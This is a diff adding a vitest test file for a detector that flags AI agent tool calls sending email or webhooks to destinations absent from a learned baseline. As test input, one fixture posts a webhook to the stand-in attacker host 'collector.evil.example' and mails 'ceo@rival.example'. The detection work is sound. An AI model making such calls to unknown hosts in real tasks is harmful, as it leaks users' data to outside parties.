@@ -1,0 +1,40 @@
+import { describe, expect, it } from 'vitest';
+import { resolveDetectionConfig } from '../config.js';
+import { detectRun } from '../detect-run.js';
+import { makeRun, toolStep, trainBaseline } from '../test-steps.js';
+import { destinationNew } from './destination-new.js';
+
+const mail = (to: string) => toolStep('send_email', 'external', { to, subject: 'Invoice', body: 'Attached.' });
+const post = (url: string) => toolStep('post_webhook', 'irreversible', { url, payload: { ok: true } });
+const baseline = trainBaseline(25, (i) =>
+  makeRun([mail(i % 2 ? 'billing@acme.example' : '[email:7f3a9c1b]'), post('https://hooks.acme.example/in')]),
+);
+const detect = (steps: Parameters<typeof makeRun>[0], config = resolveDetectionConfig()) =>
+  detectRun(makeRun(steps), baseline, config, { rules: [destinationNew] });
+
+describe('destination.new', () => {
+  it('flags a mail domain, a pseudonymised recipient and a webhook host never used before', () => {
+    const found = detect([mail('ceo@rival.example, [email:00aa11bb]'), post('https://collector.evil.example/x')]);
+    expect(found.map((f) => [f.details?.destination, f.severity])).toEqual([
+      ['collector.evil.example', 'high'],
+      ['[email:00aa11bb]', 'medium'],
+      ['rival.example', 'medium'],
+    ]);
+    const recipients = detect([mail('[email:00aa11bb]')]);
+    expect(recipients[0]?.evidence.slice(recipients[0].evidenceStart, recipients[0].evidenceEnd)).toBe(
+      '[email:00aa11bb]',
+    );
+  });
+
+  it('stays quiet for known destinations, allow-listed ones, and before the tool has enough history', () => {
+    expect(
+      detect([mail('accounts@acme.example'), mail('[email:7f3a9c1b]'), post('https://hooks.acme.example/in?x=1')]),
+    ).toEqual([]);
+    const cfg = resolveDetectionConfig({ destination: { allow: { post_webhook: ['*.partner.example'] } } });
+    expect(detect([post('https://eu.partner.example/hook')], cfg)).toEqual([]);
+    const young = trainBaseline(5, () => makeRun([mail('billing@acme.example')]));
+    expect(
+      detectRun(makeRun([mail('x@new.example')]), young, resolveDetectionConfig(), { rules: [destinationNew] }),
+    ).toEqual([]);
+  });
+});
